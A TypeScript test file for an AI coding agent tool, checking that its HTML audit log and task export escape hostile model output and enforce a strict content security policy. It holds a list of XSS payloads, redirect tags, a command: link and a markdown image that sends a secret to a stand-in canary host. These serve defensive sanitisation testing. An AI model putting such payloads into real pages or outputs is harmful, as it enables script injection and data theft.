import assert from 'node:assert/strict';
import { call, type Desk, done, Place, shell } from '../e2e/badLuckPlace';
import type { ServerTurn } from '../fakes/modelScript';
import { TestRepo } from '../fakes/testRepo';

const nasty = [
  '<img src=http://canary.example/x onerror=alert(1)>',
  '</pre></summary></title></style></script><script>alert(2)</script>',
  '<svg/onload=alert(3)><iframe src=javascript:alert(4)></iframe><base href=//canary.example>',
  '"><a href="command:workbench.action.quit">x</a> \' onmouseover=alert(5) ${alert(6)} {{alert(7)}}',
  '![i](https://canary.example/?d=SECRET) [a](javascript:alert(8)) <!-- ]]> &lt;script&gt;',
  '<meta http-equiv=refresh content="0;url=//canary.example"><link rel=stylesheet href=//canary.example>\u202e',
].join('\n');
const name = '<img src=x onerror=alert(9)>.txt';

/** The tags that the pages themselves have, with their attributes. */
const own = [
  ...[/^!doctype html$/, /^html lang="en"$/, /^meta charset="utf-8"$/, /^meta name="[a-z]+" content="[^"<>]*"$/],
  /^meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"$/,
  /^\/?(html|head|body|title|style|h1|h2|p|table|thead|tbody|tr|th|td|div|pre|span|details|summary|ul|li)$/,
  /^(p|table|tr|td|div|pre|span) class="[a-z -]+"$/,
  /^details open$/,
];

/** Whatever begins like a tag in a page, its markup and comments. */
function tagsOf(page: string): string[] {
  const style = /<style>[^<]*<\/style>/.exec(page)?.[0] ?? '';
  return [...page.replace(style, '').matchAll(/<([^<>]*)>?/g)].map(([, tag = '']) => tag);
}

describe('pages of a task whose every text was written to harm', () => {
  let place: Place;
  let desk: Desk;
  let id: string;

  before(async () => {
    const turns: ServerTurn[] = [
      { text: nasty, calls: [{ tool: 'write_file', input: { path: name, content: nasty } }] },
      { text: nasty, calls: [{ tool: nasty.slice(0, 40), input: { path: nasty } }] },
      shell(`printf '%s\\n' '${nasty.replaceAll("'", "'\\''")}'`),
      call('read_file', { path: nasty.slice(0, 50) }),
      { ...done, text: nasty },
    ];
    place = await Place.open(turns, { repo: TestRepo.with({ 'a.txt': 'a\n' }) });
    desk = await place.desk();
    const argv = desk.task(nasty, '--title', nasty.slice(0, 50)).filter((word) => word !== '--no-verify');
    const { status, shown, err } = await desk.run([...argv, '--verify', `echo '<script>alert(10)</script>'`]);
    assert.equal(status, 0, err);
    ({ id } = shown);
  });
  after(() => place.close());

  for (const [what, ...argv] of [
    ['an audit log', 'audit', '--html'],
    ['a task that is shared', 'export', '--html'],
  ] as const) {
    it(`W01, X02: ${what} holds no markup but its own, and loads nothing`, async () => {
      const [command, ...options] = argv;
      const { status, out } = await desk.cli.run(command, id, ...options);
      assert.equal(status, 0);
      const foreign = tagsOf(out).filter((tag) => !own.some((mine) => mine.test(tag)));
      assert.deepEqual(foreign, []);
      assert.ok(out.includes('&lt;img src=http://canary.example/x onerror=alert(1)&gt;'), 'the texts are in it');
      assert.match(out, /content="default-src 'none'; style-src 'unsafe-inline'"/);
      assert.doesNotMatch(out, /[\u202a-\u202e]/u);
    });
  }
});
